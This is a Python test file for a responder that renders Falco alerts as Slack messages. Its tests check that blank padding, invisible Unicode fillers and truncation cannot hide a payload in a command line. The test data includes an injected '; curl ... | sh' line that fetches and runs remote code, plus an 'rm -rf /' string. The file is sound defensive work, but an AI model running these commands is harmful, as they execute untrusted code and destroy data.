"""A long command line or Falco output cannot hide what the command does (review F3): a run of
blanks is shown as its count, a value still too long keeps its head and its tail with how many
characters are left out between, the message says it is cut and where it is whole, and letters
that show as nothing are shown by their codes."""

from __future__ import annotations

import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from responder.alert import MAX_FIELD_VALUE_CHARS, MAX_OUTPUT_CHARS
from responder.notify.blocks import FALLBACK_LIMIT, MAX_BLOCKS, SECTION_LIMIT
from responder.notify.escape import code_block, escape, plain
from responder.notify.render import SlackMessage, render_incident
from simulators.slack_sink import block_problems
from tests.notify.slack_fixtures import BASE_FIELDS, make_alert, make_report, visible_text
from tests.notify.test_slack_escape import HOSTILE, assert_literal

HEAD = "python -m vllm.entrypoints.openai.api_server --model /models/m"
PAYLOAD = "; curl -s http://203.0.113.9/x | sh"
CUT_NOTE = "_(truncated; the full record is in `serving-guard audit`)_"
# What an attacker pads with: white space, and letters and marks that show as nothing.
PADS = {
    "spaces": " ",
    "hangul filler": "\u3164",
    "halfwidth hangul filler": "\uffa0",
    "choseong filler": "\u115f",
    "braille blank": "\u2800",
    "ideographic space": "\u3000",
    "mixed": " \u3164\u2800\u034f",
}
# The letters and marks (Lo, So, Mn) that show as nothing: each shown by its code.
BLANK_LETTERS = ["\u115f", "\u1160", "\u3164", "\uffa0", "\u2800", "\u034f", "\ufe0f", "\U000e0100"]


def _alert_running(cmdline: str) -> Any:
    output = f"Shell spawned in serving pod (proc=python cmdline={cmdline} parent=tritonserver)"
    return make_alert({**BASE_FIELDS, "proc.cmdline": cmdline, "proc.name": "python"}, output=output)


def _section(message: SlackMessage, title: str) -> str:
    """The text of the message's section that opens with ``title``."""
    texts = [str(block["text"]["text"]) for block in message.blocks_json() if "text" in block]
    return next(text for text in texts if text.startswith(title))


def _code(char: str) -> str:
    point = ord(char)
    return f"\\u{point:04x}" if point <= 0xFFFF else f"\\U{point:08x}"


@pytest.mark.parametrize("pad", PADS.values(), ids=PADS.keys())
def test_padding_before_and_after_the_payload_does_not_hide_it(pad: str) -> None:
    padding = pad * (1200 // len(pad))
    message = render_incident(make_report(alert=_alert_running(HEAD + padding + PAYLOAD + padding)))
    process = _section(message, "*Process*")
    output = _section(message, "*Falco output*")
    for text in (process, output):
        assert HEAD in text and PAYLOAD in text
    # The padding is a visible count, not 1200 characters of nothing.
    assert "[1200 blanks: " in process
    assert not re.search(r"\s{9,}", process + output)
    assert not any(char in visible_text(message.blocks_json()) for char in BLANK_LETTERS)


def test_a_command_line_too_long_to_show_keeps_its_head_and_tail_and_says_so() -> None:
    cmdline = HEAD + " " + "".join(f"--arg{n}=v{n} " for n in range(400)) + PAYLOAD
    message = render_incident(make_report(alert=_alert_running(cmdline)))
    process = _section(message, "*Process*")
    assert f"*Command line* {CUT_NOTE}\n```" in process
    shown = process.split("```")[1]
    cut = re.fullmatch(r"(.*) … (\d+) characters left out … (.*)", shown, re.DOTALL)
    assert cut is not None, shown
    head, left_out, tail = cut.group(1), int(cut.group(2)), cut.group(3)
    assert cmdline.startswith(head) and cmdline.endswith(tail) and tail.endswith(PAYLOAD)
    assert len(head) + left_out + len(tail) == len(cmdline)
    assert min(len(head), len(tail)) > 500  # about half each


def test_a_falco_output_too_long_to_show_keeps_its_tail_and_says_so() -> None:
    cmdline = HEAD + " " + "".join(f"--arg{n}=v{n} " for n in range(400)) + PAYLOAD
    output = _section(render_incident(make_report(alert=_alert_running(cmdline))), "*Falco output*")
    assert output.startswith(
        f"*Falco output*, as the sender wrote it (free text, not checked against the fields) {CUT_NOTE}"
    )
    assert f"{PAYLOAD} parent=tritonserver)```" in output
    assert re.search(r" … \d+ characters left out … ", output)


def test_a_value_that_fits_is_shown_as_it_is_and_not_said_to_be_cut() -> None:
    message = render_incident(make_report(alert=_alert_running("bash  -c   'echo   hi'")))
    text = visible_text(message.blocks_json())
    assert "*Command line*\n```bash  -c   'echo   hi'```" in text
    assert "truncated" not in text and "left out" not in text


@pytest.mark.parametrize("char", BLANK_LETTERS, ids=[f"U+{ord(c):04X}" for c in BLANK_LETTERS])
def test_letters_that_show_as_nothing_are_shown_by_their_code(char: str) -> None:
    assert escape(f"rm{char}-rf /") == f"rm{_code(char)}-rf /"
    assert plain(f"Shell{char} in pod") == f"Shell{_code(char)} in pod"


BLANKS = st.sampled_from([" ", "\t", "\n", "\u3164", "\u2800", "\u3000", "\u200b", "\ufe0f", "\x1b"])
PADDED = st.lists(
    st.one_of(HOSTILE, st.builds(lambda blank, count: blank * count, BLANKS, st.integers(1, 400))),
    max_size=12,
).map("".join)


@settings(max_examples=300, deadline=None)
@given(text=PADDED, limit=st.integers(min_value=60, max_value=1300))
def test_any_padded_value_shown_in_a_block_is_literal_within_its_limit(text: str, limit: int) -> None:
    block = code_block(text, limit)
    assert len(block) <= limit
    assert block.startswith("```") and block.endswith("```") and block.count("`") == 6
    assert_literal(block[3:-3])
    assert not re.search(r"\s{9,}", block)
    assert not any(char in block for char in "\u3164\u2800\u200b\ufe0f\x1b")


def test_the_largest_padded_alert_stays_within_slack_limits() -> None:
    pad = "&` \u3164" * (MAX_FIELD_VALUE_CHARS // 4)
    fields = {
        **BASE_FIELDS,
        "proc.cmdline": pad,
        "proc.pcmdline": pad,
        "proc.exepath": pad,
        "proc.name": pad,
        "proc.pname": pad,
        "user.name": pad,
        "user.uid": pad,
    }
    alert = make_alert(fields, output=("<\u3000" * MAX_OUTPUT_CHARS)[:MAX_OUTPUT_CHARS])
    message = render_incident(make_report(alert=alert))
    assert block_problems(message.blocks_json()) == []
    assert len(message.blocks) <= MAX_BLOCKS and 0 < len(message.text) <= FALLBACK_LIMIT
    assert CUT_NOTE in _section(message, "*Process*") and CUT_NOTE in _section(message, "*Falco output*")
    alone = message.without_blocks()
    assert alone.blocks == () and 0 < len(alone.text) <= SECTION_LIMIT


def test_every_command_line_label_keeps_its_block_however_long_the_process_lines() -> None:
    """The blocks share what the process, parent, user and executable lines leave of the section:
    a label is never shown without the block it names (a long parent command line used to leave
    its label over nothing)."""
    long = "x" * 590 + " " + "y" * 400
    for head in (20, 300, 600):
        fields = {
            **BASE_FIELDS,
            "proc.name": "n" * head,
            "proc.pname": "p" * head,
            "user.name": "u" * head,
            "proc.exepath": "/opt/" + "e" * 700,
            "proc.cmdline": long * 3,
            "proc.pcmdline": long * 2,
        }
        section = _section(render_incident(make_report(alert=make_alert(fields))), "*Process*")
        assert len(section) <= SECTION_LIMIT
        lines = section.split("\n")
        for label in ("*Command line*", "*Parent command line*"):
            (at,) = [index for index, line in enumerate(lines) if line.startswith(label)]
            assert lines[at + 1].startswith("```"), (head, label, lines[at + 1][:80])
